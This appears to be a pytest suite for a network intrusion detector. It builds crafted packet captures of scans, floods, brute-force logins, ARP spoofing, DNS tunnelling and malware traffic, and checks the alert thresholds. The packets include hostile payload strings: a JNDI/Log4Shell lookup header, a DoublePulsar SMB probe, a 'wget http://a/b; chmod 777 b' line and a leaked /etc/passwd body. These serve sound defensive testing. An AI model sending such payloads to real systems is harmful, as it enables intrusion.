"""Of each type: traffic just below its limit is silent; just above it is one threat, of the right type, explained by its counter."""
import json
import struct

import pytest
from crafted import arp, fragment, ip4, ip6, tcp, udp, write_pcap
from programs import read

HERE, THERE, START = "10.1.1.9", "192.168.1.7", 1_700_000_000.0


def session(at, sport, dport, up, down, client=HERE, server=THERE):
    """A connection with one question and one answer, closed by both."""
    steps = [(client, sport, server, dport, "S", b""), (server, dport, client, sport, "SA", b""), (client, sport, server, dport, "A", b""),
             (client, sport, server, dport, "PA", up), (server, dport, client, sport, "PA", down), (client, sport, server, dport, "FA", b""),
             (server, dport, client, sport, "FA", b""), (client, sport, server, dport, "A", b"")]
    for n, (source, a, target, b, flags, payload) in enumerate(steps):
        yield at + n * 0.0005, tcp(source, target, a, b, flags, payload)


def dns(name, kind=1, answer=0):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!HHHHHH", 1, answer or 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!HH", kind, 1)


def echo(source, target, number, kind=8):
    return ip4(source, target, 1, struct.pack("!BBHHH", kind, 0, 0, 7, number % 65536) + b"a" * 48)


def closed_ports(count):
    for n in range(count):
        at = START + n * 0.05
        yield at, tcp(HERE, THERE, 40000, 1000 + n, "S")
        yield at + 0.001, tcp(THERE, HERE, 1000 + n, 40000, "RA")


def pinged(count):
    for n in range(count):
        yield START + n * 0.05, echo(HERE, f"192.168.2.{n + 1}", n)


def logins(count):
    for n in range(count):
        yield from session(START + n * 0.2, 40000 + n, 22, bytes(k % 251 for k in range(900)), b"y" * 3000)


def paths(count):
    for n in range(count):
        yield from session(START + n * 0.05, 40000 + n, 80, b"GET /" + b"a" * n + b" HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n")


def nothing_there(count):
    for n in range(count):
        yield from session(START + n * 0.1, 40000 + n, 80, b"GET /%04d HTTP/1.1\r\n\r\n" % n, b"HTTP/1.1 404 Not Found\r\n\r\n")


def spoofed(count):
    for n in range(count):
        yield START + n * 0.01, tcp(f"45.{n % 223}.{n * 7 % 251}.9", THERE, 5000, 80, "S")


def half_open(count):
    for n in range(count):
        at = START + n * 0.02
        yield at, tcp(HERE, THERE, 2000 + n, 80, "S")
        yield at + 0.001, tcp(THERE, HERE, 80, 2000 + n, "SA")
        yield at + 0.002, tcp(HERE, THERE, 2000 + n, 80, "R")


def datagrams(count):
    for n in range(count):
        yield START + n * 0.005, udp(HERE, THERE, 2000 + n, 9999, b"x" * 100)


def reflected(count):
    for n in range(count):
        yield START + n * 0.005, udp(f"8.8.{n % 200}.{n % 199 + 1}", THERE, 123, 40000, b"z" * 400)


def names_that_are_not(count):
    for n in range(count):
        yield START + n * 0.5, udp("8.8.8.8", HERE, 53, 40000 + n, dns(f"qx{n * 7919}zk.com", answer=0x8183))


def text_questions(count):
    for n in range(count):
        yield START + n * 0.4, udp(HERE, "8.8.8.8", 40000 + n, 53, dns(f"d{n}.example.com", 16))


def odd_replies(count):
    for n in range(count):
        yield START + n, echo(HERE, THERE, n)
        yield START + n + 0.01, ip4(THERE, HERE, 1, struct.pack("!BBHHH", 0, 0, 0, 7, n) + b"b" * 48)


def says(count, text, sport, dport, source=HERE, target=THERE, gap=0.2):
    for n in range(count):
        yield START + n * gap, tcp(source, target, sport, dport, "PA", text)


def refusals(count):
    yield from says(count, b"530 Login incorrect.\r\n", 21, 40000, THERE, HERE)


def greetings(count):
    for n in range(count):
        yield START + n, tcp(HERE, THERE, 40000 + n, 902, "PA", b"SSH-2.0-OpenSSH_9.2p1\r\n")


def fillers(count):
    yield from says(count, b"A" * 1000, 40000, 23)


def orders(count):
    yield from says(count, b"PRIVMSG #lab :done\r\n", 40000, 1868)


def panels(count):
    yield from says(count, b"POST /panel/gate.php HTTP/1.0\r\nHost: a\r\n\r\n", 40000, 80)


def prompts(count):
    yield from says(count, b"\r\nC:\\WINDOWS\\system32>", 40000, 4444)


def keyed(count):
    yield from says(count, b"kola7" * 200, 80, 40000, THERE, HERE)


def names_in_code(count):
    for n in range(count):
        yield START + n, udp(HERE, "8.8.8.8", 40000 + n, 53, dns("H4sICN03*2QAA3Rlc3QudHh0AAvJ.yCxWAKJEheLU5KLUEoW0zA==.example.com"))


def unanswered_names(count):
    for n in range(count):
        yield START + n * 0.05, udp(HERE, "8.8.8.8", 40000 + n, 53, dns(f"s{n}.example.com"))


def echoes_with_data(count):
    for n in range(count):
        data = bytes((n * i + n) % 256 for i in range(64))
        for at, kind, a, b in ((START + n, 8, HERE, THERE), (START + n + 0.01, 0, THERE, HERE)):
            yield at, ip4(a, b, 1, struct.pack("!BBHHH", kind, 0, 0, 7, n) + data)


def refused(count, flags, sport, dport, gap=0.05):
    """First segments that no connection knows: each is reset. sport and dport are of the number."""
    for n in range(count):
        at = START + n * gap
        yield at, tcp(HERE, THERE, sport(n), dport(n), flags)
        yield at + 0.001, tcp(THERE, HERE, dport(n), sport(n), "RA")


def closings(count):
    yield from refused(count, "FA", lambda n: 50123, lambda n: 1000 + n)


def impossible_flags(count):
    yield from refused(count, "SR", lambda n: 50123, lambda n: 1000 + n)


def christmas_to_one_port(count):
    yield from refused(count, "FPU", lambda n: 2000 + n, lambda n: 80, 0.005)


def strangers_that_close(count):
    for n in range(count):
        source, at = f"45.{n % 223}.{n * 7 % 251}.9", START + n * 0.02
        yield at, tcp(source, THERE, 5000, 80, "FA")
        yield at + 0.001, tcp(THERE, source, 80, 5000, "R")


def associations(count):
    """SCTP: half of the questions is refused by an ABORT, half by the system."""
    for n in range(count):
        head = struct.pack("!HHII", 40000, 2900 + n, 0, 0)
        yield START + n * 0.1, ip4(HERE, THERE, 132, head + b"\x01\0\0\x14" + bytes(16))
        if n % 2:
            yield START + n * 0.1 + 0.01, ip4(THERE, HERE, 132, struct.pack("!HHIIBBH", 2900 + n, 40000, 0, 0, 6, 0, 4))


def refused_over_six(count):
    for n in range(count):
        asked = udp("fd00::9", "fd00::7", 40000, 7 + n)
        yield START + n, asked
        yield START + n + 0.01, ip6("fd00::7", "fd00::9", 58, struct.pack("!BBHI", 1, 4, 0, 0) + asked)


def phones_looked_for(count):
    for n in range(count):
        yield START + n * 0.05, udp(HERE, f"192.168.2.{n + 1}", 5060, 5060, b"OPTIONS sip:100@192.168.2.1 SIP/2.0\r\n\r\n")


def datagrams_at_once(count):
    """To ever other ports, all within a fifth of a second, and never again."""
    for n in range(count):
        yield START + n * 0.2 / count, udp(HERE, THERE, 40000, 7 + n)


def unasked_replies(count):
    for n in range(count):
        yield START + n, ip4(HERE, THERE, 1, struct.pack("!BBHHH", 0, 0, 0, 7, n) + bytes((n * i + n) % 256 for i in range(64)))


def replies_of_strangers(count):
    for n in range(count):
        yield START + n * 0.005, ip4(f"8.8.{n % 200}.{n % 199 + 1}", THERE, 1, struct.pack("!BBHHH", 0, 0, 0, 7, n) + b"a" * 300)


def basic(count, password, ask=b"Basic"):
    for n in range(count):
        head = b"GET / HTTP/1.1\r\nAuthorization: " + ask + b" " + password(n) + b"\r\n\r\n"
        yield from session(START + n, 40000 + n, 80, head, b"HTTP/1.1 401 Unauthorized\r\n\r\n")


def passwords_for_a_page(count):
    yield from basic(count, lambda n: b"YWRtaW46cGFzc%04d" % n)


def communities(count):
    for n in range(count):
        name = b"word%03d" % n
        message = b"\x02\x01\x01\x04" + bytes([len(name)]) + name + b"\xa0\x19\x02\x04" + bytes(23)
        yield START + n * 0.2, udp(HERE, THERE, 40000, 161, b"\x30" + bytes([len(message)]) + message)


def registrations(count):
    for n in range(count):
        yield START + n, udp(HERE, THERE, 5060, 5060, b"REGISTER sip:lab SIP/2.0\r\n\r\n")
        yield START + n + 0.01, udp(THERE, HERE, 5060, 5060, b"SIP/2.0 403 Forbidden\r\nCSeq: 1 REGISTER\r\n\r\n")


def exploits(count):
    """DoublePulsar is asked whether it is there."""
    setup = struct.pack("<BHHHHBBHIHHHHHBBHH", 15, 12, 0, 1, 0, 0, 0, 0, 0, 0, 12, 66, 0, 78, 1, 0, 0x0e, 0)
    message = b"\xffSMB\x32" + bytes(4) + b"\x18\x07\xc0" + bytes(20) + setup + bytes(12)
    yield from says(count, struct.pack("!I", len(message)) + message, 40000, 445)


def exploit_datagrams(count):
    for n in range(count):
        yield START + n, udp(HERE, THERE, 40000, 1434, b"\x04" + b"\x01" * 375)


def lookups_for_a_logger(count):
    yield from says(count, b"GET / HTTP/1.1\r\nHost: a\r\nX-Api-Version: ${${lower:j}ndi:ldap://a/b}\r\n\r\n", 40000, 8080)


def spoils(count):
    yield from says(count, b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n", 80, 40000, THERE, HERE)


def disguises(count):
    yield from says(count, b"HTTP/1.1 200 OK\r\nContent-Type: image/gif\r\n\r\nMZ\x90" + bytes(61), 80, 40000, THERE, HERE)


def mining(count):
    yield from says(count, b'{"id":1,"method":"mining.authorize","params":["a.b","x"]}\n', 40000, 3333)


def card(n):
    return b"\x00\x1b\x21\x00" + struct.pack("!H", n)


def led_astray(count):
    """The gateway answers when it is asked; another card says every other second that it is the gateway."""
    yield START, arp(1, card(7), THERE, "192.168.1.1")
    yield START + 0.001, arp(2, card(1), "192.168.1.1", THERE, card(7))
    for n in range(count):
        yield START + 3 + n * 2, arp(2, card(66), "192.168.1.1", THERE, card(7))


def llmnr(name, answer=None):
    labels = bytes([len(name)]) + name.encode() + b"\0\0\1\0\1"
    head = struct.pack("!HHHHHH", 7, 0x8000 if answer else 0, 1, 1 if answer else 0, 0, 0)
    return head + labels + (labels + struct.pack("!IH", 30, 4) + bytes(map(int, answer.split("."))) if answer else b"")


def names_of_others(count):
    for n in range(count):
        yield START + n * 30, udp(THERE, "224.0.0.252", 50000 + n, 5355, llmnr(f"server{n}"))
        yield START + n * 30 + 0.01, udp(HERE, THERE, 5355, 50000 + n, llmnr(f"server{n}", HERE))


def netbios(name, address, flags=0x8500, seconds=300000, suffix=0x20):
    raw = name.upper().ljust(15).encode() + bytes([suffix])
    coded = b"".join(bytes([65 + (c >> 4), 65 + (c & 15)]) for c in raw)
    return struct.pack("!HHHHHH", 7, flags, 0, 1, 0, 0) + b"\x20" + coded + b"\0" + struct.pack("!HHIHH", 0x20, 1, seconds, 6, 0) + bytes(map(int, address.split(".")))


def names_by_netbios(count):
    for n in range(count):
        yield START + n * 30, udp(HERE, THERE, 137, 137, netbios(f"server{n}", HERE))


def names_for_a_moment(count):
    for n in range(count):
        yield START + n * 30, udp(HERE, THERE, 137, 137, netbios("server", HERE, seconds=165))


def discover(hardware):
    return udp("0.0.0.0", "255.255.255.255", 68, 67, struct.pack("!BBBBIHH", 1, 1, 6, 0, 7, 0, 0x8000) + bytes(16) + hardware + bytes(202) + b"\x63\x82\x53\x63\x35\1\1\xff")


def invented_cards(count):
    for n in range(count):
        yield START + n * 0.01, discover(bytes([n & 0xfd, n * 7 % 256, n * 13 % 256, 1, 2, 3]))


def routers(count):
    for n in range(count):
        yield START + n * 0.01, ip6(f"fe80::{n + 1:x}", "ff02::1", 58, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), ttl=255)


def to_oneself(count):
    for n in range(count):
        yield START + n, tcp(THERE, THERE, 139, 139, "S")


def teardrops(count):
    for n in range(count):
        yield START + n, fragment(HERE, THERE, 17, 242 + n, 0, True, struct.pack("!HHHH", 31915, 20197, 44, 0) + bytes(28))
        yield START + n + 0.001, fragment(HERE, THERE, 17, 242 + n, 24, False, bytes(4))


def too_long_together(count):
    for n in range(count):
        yield START + n, fragment(HERE, THERE, 1, 7, 0, True, b"\x08\0\0\0\0\7\0\1" + bytes(1472))
        yield START + n + 0.001, fragment(HERE, THERE, 1, 7, 65120, False, bytes(1000))


def echo_of_an_echo(count):
    for n in range(count):
        yield START + n, udp(HERE, THERE, 7, 19, b"a" * 64)


def echo_of_all(count):
    for n in range(count):
        yield START + n, udp(THERE, "192.168.1.255", 40000 + n, 7, b"a" * 64)


def pings_to_all(count):
    for n in range(count):
        yield START + n * 0.002, echo(THERE, "192.168.1.255", n)


def posted(count, body):
    for n in range(count):
        text = body(n)
        head = b"POST /login HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n" % len(text)
        yield from session(START + n, 40000 + n, 80, head + text, b"HTTP/1.1 200 OK\r\n\r\nno")


def passwords_in_a_form(count):
    yield from posted(count, lambda n: b"username=admin&password=word%04d&Login=Login" % n)


def passwords_in_an_object(count):
    yield from posted(count, lambda n: b'{"email": "admin@a.example", "password": "word%04d"}' % n)


def passwords_in_an_address(count):
    for n in range(count):
        yield from session(START + n, 40000 + n, 80, b"GET /brute/?username=admin&password=word%04d HTTP/1.1\r\nHost: a\r\n\r\n" % n, b"HTTP/1.1 200 OK\r\n\r\nno")


def passwords_in_a_body_of_its_own(count):
    for n in range(count):
        yield START + n, tcp(HERE, THERE, 40000 + n, 80, "PA", b"log=admin&pwd=word%04d&wp-submit=Log+In" % n)


def passwords_for_a_telephone(count):
    for n in range(count):
        yield START + n, udp(HERE, THERE, 5061, 5060, b'REGISTER sip:lab SIP/2.0\r\nAuthorization: Digest username="100", response="%032x"\r\n\r\n' % n)
        yield START + n + 0.01, udp(THERE, HERE, 5060, 5061, b"SIP/2.0 401 Unauthorized\r\n\r\n")


def kerberos(code):
    return b"\x7e\x2e\x30\x2c\xa0\3\2\1\5\xa1\3\2\1\x1e\xa4\x11\x18\x0f20231114221320Z\xa6\3\2\1" + bytes([code]) + b"\xa9\5\x1b\3LAB"


def tickets_refused(count):
    for n in range(count):
        yield START + n, udp(THERE, HERE, 88, 40000 + n, kerberos(24))


def brokers_refuse(count):
    yield from says(count, b"\x20\2\0\5", 1883, 40000, THERE, HERE)


def modbus(count, unit, code):
    for n in range(count):
        yield START + n * 0.2, tcp(HERE, THERE, 40000, 502, "PA", struct.pack("!HHHBB", n, 0, 2, unit(n), 1 + n % 100))
        yield START + n * 0.2 + 0.01, tcp(THERE, HERE, 502, 40000, "PA", struct.pack("!HHHBBB", n, 0, 3, unit(n), 0x81 + n % 100, code))


def new_keys(count):
    yield from says(count, b"\x16\3\3\0\x28\x9a" + bytes(39), 40000, 443)


def mailboxes_asked_for(count):
    for n in range(count):
        yield START + n, tcp(HERE, THERE, 40000, 25, "PA", b"VRFY user%03d\r\n" % n)


def functions_tried(count):
    yield from modbus(count, lambda n: 1, 1)


def units_tried(count):
    yield from modbus(count, lambda n: n + 1, 11)


CASES = [(led_astray, 4, 6, "anomaly", "forged_addresses"), (names_of_others, 3, 6, "suspicious_udp", "claimed_names"),
         (names_by_netbios, 3, 6, "suspicious_udp", "claimed_names"), (names_for_a_moment, 0, 1, "suspicious_udp", "exploit_datagrams"),
         (invented_cards, 46, 90, "dos", "lease_makers"), (routers, 15, 30, "ddos", "advertising_routers"),
         (to_oneself, 0, 1, "dos", "impossible_packets"), (teardrops, 0, 1, "dos", "impossible_packets"),
         (too_long_together, 0, 1, "dos", "impossible_packets"), (echo_of_an_echo, 0, 1, "dos", "impossible_packets"),
         (echo_of_all, 0, 1, "dos", "impossible_packets"), (pings_to_all, 900, 2100, "dos", "pings_s"), (passwords_in_a_form, 20, 30, "brute_force", "refused_logins"),
         (passwords_in_an_object, 20, 30, "brute_force", "refused_logins"), (passwords_in_an_address, 20, 30, "brute_force", "refused_logins"), (passwords_in_a_body_of_its_own, 20, 30, "brute_force", "refused_logins"),
         (passwords_for_a_telephone, 20, 30, "brute_force", "refused_logins"), (tickets_refused, 18, 22, "brute_force", "refused_logins"),
         (brokers_refuse, 18, 22, "brute_force", "refused_logins"), (functions_tried, 30, 60, "port_scan", "refused_functions"),
         (units_tried, 30, 60, "port_scan", "refused_functions"),
         (new_keys, 28, 31, "dos", "renegotiations"), (mailboxes_asked_for, 20, 30, "brute_force", "refused_logins"), (closed_ports, 12, 19, "port_scan", "failed_ports"), (pinged, 9, 18, "port_scan", "silent_hosts"),
         (logins, 28, 32, "brute_force", "login_sessions"), (paths, 70, 130, "web_attack", "request_sizes"),
         (nothing_there, 155, 165, "web_attack", "missing_pages"), (spoofed, 48, 80, "ddos", "unanswered_sources"),
         (half_open, 80, 130, "dos", "half_open_flows"),
         (datagrams, 295, 305, "udp_flood", "unanswered_flows"), (reflected, 15, 30, "ddos", "reflectors"),
         (names_that_are_not, 11, 20, "malware", "missing_names"), (text_questions, 45, 80, "data_exfiltration", "dns_long_names"),
         (odd_replies, 2, 4, "data_exfiltration", "icmp_unlike_replies"), (refusals, 18, 22, "brute_force", "refused_logins"),
         (greetings, 28, 31, "brute_force", "login_banners"), (fillers, 2, 4, "dos", "filler_segments"), (orders, 2, 4, "malware", "chat_commands"),
         (panels, 0, 2, "malware", "bot_requests"), (prompts, 0, 2, "malware", "remote_control"), (keyed, 7, 9, "malware", "keyed_segments"),
         (names_in_code, 0, 2, "data_exfiltration", "encoded_names"), (unanswered_names, 22, 40, "data_exfiltration", "unanswered_names"),
         (echoes_with_data, 7, 15, "data_exfiltration", "echo_contents"), (closings, 12, 19, "port_scan", "failed_ports"),
         (impossible_flags, 1, 4, "port_scan", "odd_flag_probes"), (christmas_to_one_port, 280, 305, "dos", "unanswered_flows"),
         (strangers_that_close, 48, 80, "ddos", "stray_sources"), (associations, 12, 19, "port_scan", "failed_ports"),
         (refused_over_six, 7, 12, "port_scan", "refused_udp_ports"), (phones_looked_for, 24, 45, "port_scan", "failed_hosts"),
         (unasked_replies, 7, 15, "data_exfiltration", "echo_contents"), (replies_of_strangers, 15, 30, "ddos", "reflectors"),
         (passwords_for_a_page, 18, 24, "brute_force", "refused_logins"), (communities, 9, 16, "brute_force", "snmp_communities"),
         (exploits, 0, 2, "suspicious_tcp", "exploit_messages"), (exploit_datagrams, 0, 2, "suspicious_udp", "exploit_datagrams"),
         (lookups_for_a_logger, 0, 2, "web_attack", "request_patterns"), (spoils, 0, 2, "web_attack", "spoils"),
         (disguises, 0, 2, "malware", "disguised_programs"), (mining, 0, 2, "malware", "mining_messages"),
         (datagrams_at_once, 16, 26, "port_scan", "failed_ports"), (registrations, 18, 22, "brute_force", "refused_logins")]


def threats(tmp_path, packets):
    last = {}
    for line in read(write_pcap(tmp_path / "made.pcap", sorted(packets, key=lambda one: one[0]))).stdout.splitlines():
        threat = json.loads(line)
        last[threat["threat_id"]] = threat
    return list(last.values())


@pytest.mark.parametrize("make, below, above, kind, counter", CASES, ids=[f"{case[3]}-{case[4]}-{case[0].__name__}" for case in CASES])
def test_below_its_limit_it_is_silent_and_above_it_is_one_threat_explained(tmp_path, make, below, above, kind, counter):
    assert threats(tmp_path, make(below)) == []
    found = threats(tmp_path, make(above))
    assert [threat["threat_type"] for threat in found] == [kind]
    why = found[0]["details"]["explanation"][0]
    assert why["counter"] == counter
    assert why["value"] >= why["limit"] >= 2 * why["benign_max"]
    assert found[0]["details"]["flow_count"] >= 1
    assert 0.5 < found[0]["confidence"] <= 0.99


@pytest.mark.parametrize("make, above", [(case[0], case[2]) for case in CASES], ids=[case[0].__name__ for case in CASES])
def test_one_worker_and_two_tell_the_same(tmp_path, make, above):
    path = write_pcap(tmp_path / "made.pcap", sorted(make(above), key=lambda one: one[0]))
    one, two = (read(path, "--workers", workers).stdout for workers in (1, 2))
    assert one == two != ""


def test_a_scanner_and_its_decoys_are_two_threats_at_most(tmp_path):
    others = [f"61.{n * 37 % 250}.7.{n + 1}" for n in range(8)]
    packets = []
    for n in range(120):
        for k, source in enumerate([HERE, *others]):
            at = START + n * 0.05 + k * 0.0001
            packets += [(at, tcp(source, THERE, 40000, 1000 + n, "S")), (at + 0.001, tcp(THERE, source, 1000 + n, 40000, "RA"))]
    found = threats(tmp_path, packets)
    assert [threat["threat_type"] for threat in found] == ["port_scan", "port_scan"]
    assert sum(threat["details"]["flow_count"] for threat in found) >= 120 * 9 - 15 * 9


def test_scanners_that_come_one_after_the_other_are_told_one_by_one(tmp_path):
    packets = []
    for k in range(4):
        for n in range(40):
            at = START + k * 30 + n * 0.05
            packets += [(at, tcp(f"61.7.{k}.9", THERE, 40000, 1000 + n, "S")), (at + 0.001, tcp(THERE, f"61.7.{k}.9", 1000 + n, 40000, "RA"))]
    assert sorted(threat["source_ip"] for threat in threats(tmp_path, packets)) == [f"61.7.{k}.9" for k in range(4)]


def missing_pictures(count=300):
    """A page whose pictures are gone, open for a minute."""
    for n in range(count):
        yield from session(START + n * 0.2, 40000 + n, 80, b"GET /old/picture%d.png HTTP/1.1\r\n\r\n" % (n % 6), b"HTTP/1.1 404 Not Found\r\n\r\n")


def idle_connections_closed(count=200):
    """By a server, long after the clients have gone."""
    yield from refused(count, "FA", lambda n: 8443, lambda n: 32768 + n * 7)


def one_password_asked_for_again_and_again(count=60):
    """As NTLM does with each connection, and a program with an old password."""
    yield from basic(count, lambda n: b"YWRtaW46b2xk")


def negotiations(count=60):
    yield from basic(count, lambda n: b"TlRMTVNTUAAB%04d" % n, b"NTLM")


def monitored_agents(count=200):
    for n in range(count):
        message = b"\x02\x01\x01\x04\x07monitor\xa0\x19\x02\x04" + struct.pack("!I", n) + bytes(19)
        yield START + n * 0.2, udp(HERE, THERE, 40000, 161, b"\x30" + bytes([len(message)]) + message)


def pings_seen_one_way(count=60):
    for n in range(count):
        yield START + n, ip4(HERE, THERE, 1, struct.pack("!BBHHHQQ", 0, 0, 0, 7, n, n, n) + b"abcdefgh" * 6)


def programs_at_work(count=60):
    """They log in for each job, and are let in."""
    for n in range(count):
        yield from session(START + n * 0.5, 40000 + n, 22, b"SSH-2.0-x" + bytes(k % 251 for k in range(900)), b"y" * (9000 + n * 13))


def senders_looked_up(count=600):
    for n in range(count):
        yield START + n * 0.05, udp(HERE, THERE, 40000 + n % 5000, 53, dns(f"{n % 250}.{n // 250}.2.10.list.example.com"))
        yield START + n * 0.05 + 0.001, udp(THERE, HERE, 53, 40000 + n % 5000, dns(f"{n % 250}.{n // 250}.2.10.list.example.com", answer=0x8183))


def written_about():
    """What attacks are made of, where people search for it, quote it or hand it on: no order in it is meant for the machine it goes to."""
    asked = [b"GET /docs/CVE-2021-44228-jndi-lookup.html HTTP/1.1\r\nHost: a\r\n\r\n",
             b"GET /search?q=java.lang.RuntimeException HTTP/1.1\r\nHost: a\r\nReferer: http://a/?q=../../etc/passwd%20union%20select\r\n\r\n",
             b"POST /wiki HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n\r\nRun wget http://a/b; chmod 777 b. ' or 1=1 is always true; <script>",
             b"PUT /notes/a.txt HTTP/1.1\r\nHost: a\r\n\r\n/bin/sh and /etc/shadow"]
    told = [b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n\r\nMZ\x90" + bytes(61),
            b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<pre>root:x:0:0:root:/root:/bin/bash</pre>"]
    for n in range(12):
        yield from session(START + n * 3, 40000 + n, 80, asked[n % 4], told[n % 2])
        yield from says(1, b"The log held ${jndi:ldap://a/b} and C:\\Windows> at its end\r\n", 40100 + n, 25)
    yield START + 40, udp(HERE, THERE, 40000, 1434, b"\x04SQLEXPRESS\0")


def failover():
    """The second gateway takes the address and tells everybody, ten times; three times it goes back and forth."""
    yield START, arp(1, card(7), THERE, "192.168.1.1")
    yield START + 0.001, arp(2, card(1), "192.168.1.1", THERE, card(7))
    for n in range(30):
        yield START + 10 + n, arp(2, card(1 + n // 10 % 2), "192.168.1.1", "192.168.1.1", b"\xff" * 6)


def two_cards_of_one_host():
    """Each answers for the host's address, whoever asks."""
    for n in range(60):
        yield START + n, arp(1, card(7), THERE, "192.168.1.2")
        for k in (1, 2):
            yield START + n + k * 0.001, arp(2, card(k), "192.168.1.2", THERE, card(7))


def answers_seen_without_their_questions():
    for n in range(60):
        yield START + n, arp(2, card(1), "192.168.1.1", THERE, card(7))


def own_names():
    """A host answers for its name; a server answers for all and says so; a controller for its domain."""
    for n in range(60):
        yield START + n, udp(HERE, THERE, 5355, 50000 + n, llmnr("workshop" if n % 2 else "WORKSHOP", HERE))
        yield START + n, udp(HERE, THERE, 137, 137, netbios("workshop", HERE))
        yield START + n, udp("192.168.1.2", THERE, 137, 137, netbios(f"host{n}", HERE, flags=0x8580))
        yield START + n, udp("192.168.1.3", THERE, 137, 137, netbios(f"domain{n}", HERE, suffix=0x1B))


def power_is_back():
    """Three hundred devices of twenty makers, and telephones that hide their maker."""
    for n in range(300):
        yield START + n * 0.02, discover(bytes([0, 1, n % 20, n % 256, 1, 2]))
        yield START + n * 0.02, discover(bytes([(n * 4 + 2) % 256, n % 256, n * 3 % 256, n * 5 % 256, 1, 2]))


def large_pieces():
    """Datagrams and pings in pieces, some of them twice, and the last piece first."""
    for n in range(60):
        pieces = [(0, True, struct.pack("!HHHH", 800, 2049, 3000, 0) + bytes(1472)), (1480, True, bytes(1480)), (2960, False, bytes(40))]
        for k, (offset, more, data) in enumerate(reversed(pieces) if n % 3 == 0 else pieces):
            for twice in range(1 + n % 2):
                yield START + n + k * 0.001 + twice * 0.0001, fragment(HERE, THERE, 17, n % 20, offset, more, data)
        whole = b"\x08\0\0\0\0\7" + struct.pack("!H", n) + bytes(65507)
        for at in range(0, len(whole), 1480):
            yield START + n + 0.5 + at * 1e-6, fragment(HERE, THERE, 1, 1000 + n, at, at + 1480 < len(whole), whole[at:at + 1480])


def old_services():
    """A card is woken through the echo port, an echo is asked for, a program talks to its own host."""
    for n in range(60):
        yield START + n, tcp("127.0.0.1", "127.0.0.1", 80, 80, "S")
        yield START + n, tcp(THERE, THERE, 80, 80, "S", b"POST / HTTP/1.1\r\n\r\n")
        yield START + n, udp(HERE, "192.168.1.255", 40000, 7, b"\xff" * 6 + b"\0\1\2\3\4\5" * 16)
        yield START + n, udp(HERE, THERE, 40000 + n, 7, b"hello")
        yield START + n + 0.01, udp(THERE, HERE, 7, 40000 + n, b"hello")
        yield from session(START + n, 40000 + n, 8080, b"GET / HTTP/1.1\r\n\r\n", b"HTTP/1.1 200 OK\r\n\r\n", THERE, THERE)


def people_who_log_in():
    """Through one address, each with a password of his own; a program with its only one; somebody who tries nine."""
    yield from posted(60, lambda n: b"username=user%d&password=secret%d" % (n, n))
    yield from posted(60, lambda n: b"login=Log+In&uid=user%d&password=secret%d" % (n, n))
    yield from posted(60, lambda n: b'{"username":"user%d","password":"secret%d","page":%d}' % (n, n, n))
    yield from posted(60, lambda n: b'{"user":"program","password":"its own","page":%d}' % n)
    for n in range(60):
        yield from session(START + n, 45000 + n, 80, b"GET /send?user=shop&password=k3y&text=%d HTTP/1.1\r\nHost: a\r\n\r\n" % n, b"HTTP/1.1 200 OK\r\n\r\nok")
    for n in range(9):
        yield START + n * 4, tcp(HERE, THERE, 46000, 80, "PA", b"email=anna%%40a.example&password=try%d" % n)
    for n in range(60):
        yield START + n, udp(THERE, HERE, 88, 40000 + n, kerberos(25 if n % 5 else 24))


def telephones_that_register():
    """Sixty behind one address, each twice a minute; one trunk that calls all the time."""
    for n in range(120):
        yield START + n * 0.5, udp(HERE, THERE, 5061, 5060, b'REGISTER sip:lab SIP/2.0\r\nAuthorization: Digest username="%d", response="%032x"\r\n\r\n' % (n % 60, n))
        yield START + n * 0.5, udp(HERE, THERE, 5061, 5060, b'INVITE sip:%d@lab SIP/2.0\r\nAuthorization: Digest username="trunk", response="%032x"\r\n\r\n' % (n, n))
        yield START + n * 0.5 + 0.01, udp(THERE, HERE, 5060, 5061, b"SIP/2.0 404 Not Found\r\nCSeq: 2 INVITE\r\n\r\n")


def a_line_that_is_cut():
    """Of the 32 units on it nobody answers, poll after poll."""
    yield from modbus(300, lambda n: n % 32 + 1, 11)


def many_sessions():
    """Each with its own keys, some with a client's certificate, one asks for new ones now and then."""
    for n in range(200):
        for k, kind in enumerate((b"\1", b"\x0b" if n % 2 else b"\x10")):
            yield START + n * 0.2 + k * 0.01, tcp(HERE, THERE, 40000 + n, 443, "PA", b"\x16\3\3\0\x28" + kind + bytes(39))
        if n % 10 == 0:
            yield START + n * 0.2 + 0.05, tcp(HERE, THERE, 39999, 443, "PA", b"\x16\3\3\0\x28\x9a" + bytes(39))


def advertised_often():
    for n in range(200):
        yield START + n * 0.1, ip6(f"fe80::{n % 4 + 1:x}", "ff02::1", 58, struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0), ttl=255)


LINK = [failover, two_cards_of_one_host, answers_seen_without_their_questions, own_names, power_is_back, large_pieces, old_services, people_who_log_in,
        telephones_that_register, a_line_that_is_cut, many_sessions, advertised_often]


@pytest.mark.parametrize("make", LINK + [written_about, programs_at_work, senders_looked_up, missing_pictures, idle_connections_closed, one_password_asked_for_again_and_again, negotiations, monitored_agents, pings_seen_one_way])
def test_what_only_looks_like_it_is_silent(tmp_path, make):
    assert threats(tmp_path, make()) == []
